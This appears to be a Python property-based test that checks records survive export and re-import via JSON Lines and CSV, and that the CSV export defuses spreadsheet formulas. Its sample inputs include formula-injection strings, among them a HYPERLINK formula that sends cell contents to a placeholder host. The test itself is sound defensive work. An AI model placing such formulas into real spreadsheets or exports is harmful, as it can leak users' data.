"""Whatever `log export` writes, `log import` reads back: any record the validator accepts
survives export → import into a new database, in JSON Lines and in CSV, unchanged.

Generated records carry arbitrary Unicode in their text fields (notes, case references under
a permissive pattern), texts starting with = + - @ ' and their full-width forms (which the
CSV export guards with an apostrophe and the import unguards), every outcome of the leaflet,
optional fields null or not, and corrections of earlier records. The core functions
(leaflet.handover.service) are called directly: no subprocess, so 60 examples take seconds.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import tempfile
from pathlib import Path

import pytest
from hypothesis import HealthCheck, assume, given, settings
from hypothesis import strategies as st

from leaflet.handover import service
from leaflet.duties.choices import (
    ASSESSMENTS,
    CENTRE_ACTIONS,
    CENTRES,
    NOT_GIVEN_REASONS,
    RESIDENCE_STATUSES,
    SERVICES)
from leaflet.duties.record import RecordError
from leaflet.duties.record import CODE_PATTERN, EDITION_PATTERN, validate

# A case_ref pattern that lets almost anything through, so the validator's own rules (one
# line, no invisible characters, no national number) are what decides.
PATTERN = r".{1,120}"
FORMULA_STARTS = "=+-@'＝＋－＠"
LANGUAGES = ["ti", "ar", "ar-MA", "zh-Hans", "fa", "sr-Latn-RS", "rom", "fr", "nl", "uk",
             "pcm", "am", "ps"]

# Printable text of any script (no control, format, separator, surrogate, private-use or
# unassigned code points: those the validator refuses, and a refused record proves nothing).
letters = st.characters(blacklist_categories=("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp"))
any_text = st.text(letters, min_size=1, max_size=60)
formula_text = st.tuples(st.sampled_from(FORMULA_STARTS), st.text(letters, max_size=40)
                         ).map("".join)
texts = st.one_of(any_text, formula_text, st.sampled_from(
    ['=HYPERLINK("http://x.example/?"&A1,"click")', "@SUM(A1:A3)", "+32 2 555 00 00",
     "-1", "'", "''", "'=1", "a,b;\"c\"", "  spaced  ", "ትግርኛ ሓሳብ", "نمی‌خواهم"]))
codes = st.from_regex(CODE_PATTERN, fullmatch=True)
editions = st.from_regex(EDITION_PATTERN, fullmatch=True)
offsets = st.integers(min_value=-14 * 60, max_value=14 * 60).map(
    lambda minutes: dt.timezone(dt.timedelta(minutes=minutes)))
moments = st.builds(
    lambda moment, zone: moment.replace(tzinfo=zone).isoformat(),
    st.datetimes(min_value=dt.datetime(1997, 1, 15), max_value=dt.datetime(2025, 12, 31)),
    offsets)


@st.composite
def records(draw, earlier: list[str]) -> dict:
    leaflet = draw(st.sampled_from(["given", "refused", "not_given"]))
    action = draw(st.sampled_from(CENTRE_ACTIONS))
    person = draw(st.one_of(st.just(["und"]),
                            st.lists(st.sampled_from(LANGUAGES), min_size=1, max_size=4,
                                     unique=True)))
    return {
        "id": str(draw(st.uuids(version=4))),
        "occurred_at": draw(moments),
        "service": draw(st.sampled_from(SERVICES)),
        "unit": draw(codes),
        "officer": draw(codes),
        "assessment": draw(st.sampled_from(ASSESSMENTS)),
        "residence_status": draw(st.sampled_from(RESIDENCE_STATUSES)),
        "person_languages": person,
        "leaflet": leaflet,
        "leaflet_language": draw(st.sampled_from(LANGUAGES)) if leaflet == "given" else None,
        "leaflet_edition": draw(st.one_of(st.none(), editions)) if leaflet == "given"
        else None,
        "not_given_reason": draw(st.sampled_from(NOT_GIVEN_REASONS))
        if leaflet == "not_given" else None,
        "not_given_note": draw(st.one_of(st.none(), texts)) if leaflet != "given" else None,
        "centre_action": action,
        "centre": draw(st.sampled_from(CENTRES)) if action != "none" else None,
        "foreigners_dept_informed": draw(st.sampled_from([None, True, False])),
        "amends": draw(st.sampled_from(earlier)) if earlier and draw(st.booleans()) else None,
        "case_ref": draw(st.one_of(st.none(), texts)),
    }


@st.composite
def logs(draw) -> list[dict]:
    """1–4 records, later ones possibly correcting earlier ones."""
    found: list[dict] = []
    for _ in range(draw(st.integers(min_value=1, max_value=4))):
        found.append(draw(records([r["id"] for r in found])))
    return found


def accepted(data: dict):
    try:
        return validate(data, case_ref_pattern=PATTERN)
    except RecordError:
        return None


def stored(url: str) -> list[dict]:
    from leaflet.duties.record import CHAIN_FIELDS

    return [{k: v for k, v in r.items() if k not in CHAIN_FIELDS}
            for r in service.records(url)]


@pytest.mark.slow
@settings(max_examples=60, deadline=None, database=None,
          suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(logs(), st.booleans())
def test_any_accepted_record_survives_export_and_import(generated, with_chain):
    from leaflet.handover.store import Store
    from leaflet.storage.engine import dispose_engines

    encounters = [accepted(r) for r in generated]
    assume(all(encounters))
    originals = [e.to_dict() for e in encounters]
    with tempfile.TemporaryDirectory() as folder:
        source = f"sqlite:///{Path(folder) / 'station.sqlite3'}"
        store = Store(source)
        for encounter in encounters:
            store.append(encounter)
        try:
            assert stored(source) == originals
            for fmt in ("jsonl", "csv"):
                out = io.StringIO(newline="")
                count = service.export(source, out, fmt=fmt, with_chain=with_chain)
                assert count == len(originals)
                target = f"sqlite:///{Path(folder) / f'central-{fmt}.sqlite3'}"
                added = list(service.import_file(target, f"station.{fmt}",
                                                 text=out.getvalue(),
                                                 case_ref_pattern=PATTERN))
                assert [record_id for record_id, _ in added] == [r["id"] for r in originals]
                assert stored(target) == originals, fmt
                again = list(service.import_file(target, f"station.{fmt}",
                                                 text=out.getvalue(),
                                                 case_ref_pattern=PATTERN))
                assert not any(is_new for _, is_new in again)  # idempotent
            sheet = io.StringIO(newline="")
            service.export(source, sheet, fmt="csv", with_chain=with_chain)
            cells = [c for row in csv.reader(io.StringIO(sheet.getvalue())) for c in row]
            assert not [c for c in cells if c and c[0] in "=+-@\t\r＝＋－＠"]  # nothing evaluates
        finally:
            dispose_engines()
